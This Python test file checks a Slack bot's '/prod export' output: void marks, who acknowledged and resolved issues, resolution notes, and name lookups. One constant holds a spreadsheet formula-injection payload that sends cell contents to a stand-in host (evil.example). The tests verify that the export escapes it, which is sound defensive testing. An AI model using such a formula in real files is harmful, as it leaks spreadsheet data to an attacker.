"""`/prod export`'s files as they arrive by DM: void marks, issue acknowledgement and resolution
with their note, and people's display names from Slack's ``users.info``."""

from datetime import timedelta

import pytest
import time_machine
from sqlalchemy.orm import Session, sessionmaker

from bot.messages.ids import ActionId
from bot.slack.exports import ExportSender
from models import Issue, IssueStatus
from tests.e2e.support import (
    MID_SHIFT_A,
    all_rows,
    exported_files,
    press_button,
    report,
    wait_until,
)
from tests.fakes.slack_api import RESPONSE_URL, FakeSlackAPI
from tests.slack_requests import SlackSender

pytestmark = pytest.mark.usefixtures("exports")

HEAD = "U0HEAD0001"
MANAGER = "U0MGR00001"
LEAD = "U0LEAD0001"
NOTE = '=HYPERLINK("http://evil.example/?d="&A1,"x")'


def test_voided_entries_are_included_with_their_void_marks(
    slack: SlackSender, fake_slack: FakeSlackAPI, exports: ExportSender
) -> None:
    report(slack, fake_slack, "/output", "L1 120", posts=2)
    slack.command("/prod", "undo")
    fake_slack.wait_for("chat.postMessage", 3)

    slack.command("/prod", "export from 2026-11-18", user=MANAGER)

    [entry] = exported_files(fake_slack, exports)["entries"]
    assert entry["good"] == "120"
    assert (entry["voided_by"], entry["voided_by_name"]) == (LEAD, "")
    assert entry["voided_at"].startswith("2026-11-18T10:00")
    assert entry["voided_at"].endswith("+01:00")


def _raise_and_settle(
    slack: SlackSender,
    fake: FakeSlackAPI,
    session_factory: sessionmaker[Session],
    clock: time_machine.Traveller,
) -> None:
    """L1's lead raises an issue at 10:00; its manager acknowledges it at 10:05; the lead
    resolves it at 10:40 with a note that is a formula."""
    slack.command("/issue", "L1 high conveyor jam")
    posts = fake.wait_for("chat.postMessage", 3)
    [message] = [post for post in posts if "issue_acknowledge" in str(post.args.get("blocks"))]
    wait_until(lambda: all_rows(session_factory, Issue)[0].message_ts, "the issue is posted")
    clock.move_to(MID_SHIFT_A + timedelta(minutes=5))
    press_button(slack, message, ActionId.ACKNOWLEDGE_ISSUE, user=MANAGER)
    clock.move_to(MID_SHIFT_A + timedelta(minutes=40))
    press_button(slack, message, ActionId.RESOLVE_ISSUE, user=LEAD)
    [opened] = fake.wait_for("views.open")
    view = opened.args["view"]
    [field] = [block for block in view["blocks"] if block["type"] == "input"]
    note = {"type": "plain_text_input", "value": NOTE}
    values = {field["block_id"]: {field["element"]["action_id"]: note}}
    slack.submit({**view, "id": "V0RESOLVE1", "hash": "1790000000.abcdef"}, values, user=LEAD)
    wait_until(
        lambda: all_rows(session_factory, Issue)[0].status is IssueStatus.RESOLVED,
        "the issue is resolved",
    )


def test_issues_carry_who_acknowledged_and_resolved_them_when_and_the_note(
    slack: SlackSender,
    fake_slack: FakeSlackAPI,
    exports: ExportSender,
    session_factory: sessionmaker[Session],
    clock: time_machine.Traveller,
) -> None:
    fake_slack.profiles[MANAGER] = {"display_name": "mara", "real_name": "Mara Manager"}
    fake_slack.profiles[LEAD] = {"display_name": "", "real_name": "=Lee Lead"}
    _raise_and_settle(slack, fake_slack, session_factory, clock)
    asked_before = len(fake_slack.calls_to("users.info"))

    slack.command("/prod", "export from 2026-11-18", user=MANAGER)

    [issue] = exported_files(fake_slack, exports)["issues"]
    assert issue["status"] == "resolved"
    assert (issue["raised_by"], issue["raised_by_name"]) == (LEAD, "'=Lee Lead")
    assert issue["raised_at"].startswith("2026-11-18T10:00")
    assert (issue["acknowledged_by"], issue["acknowledged_by_name"]) == (MANAGER, "mara")
    assert issue["acknowledged_at"].startswith("2026-11-18T10:05")
    assert (issue["resolved_by"], issue["resolved_by_name"]) == (LEAD, "'=Lee Lead")
    assert issue["resolved_at"].startswith("2026-11-18T10:40")
    for column in ("raised_at", "acknowledged_at", "resolved_at"):
        assert issue[column].endswith("+01:00"), column
    assert issue["resolution_note"] == "'" + NOTE
    # one users.info per person named in the export, however often they are named (LEAD twice)
    asked = fake_slack.calls_to("users.info")[asked_before:]
    assert sorted(call.args["user"] for call in asked) == sorted({LEAD, MANAGER})


def test_names_slack_will_not_give_are_left_blank(
    slack: SlackSender, fake_slack: FakeSlackAPI, exports: ExportSender
) -> None:
    report(slack, fake_slack, "/output", "L1 120", posts=2)
    fake_slack.fail("users.info", status=404, times=1)

    slack.command("/prod", "export from 2026-11-18", user=HEAD)

    [entry] = exported_files(fake_slack, exports)["entries"]
    assert (entry["reported_by"], entry["reported_by_name"]) == (LEAD, "")
    assert fake_slack.calls_to(RESPONSE_URL) == []
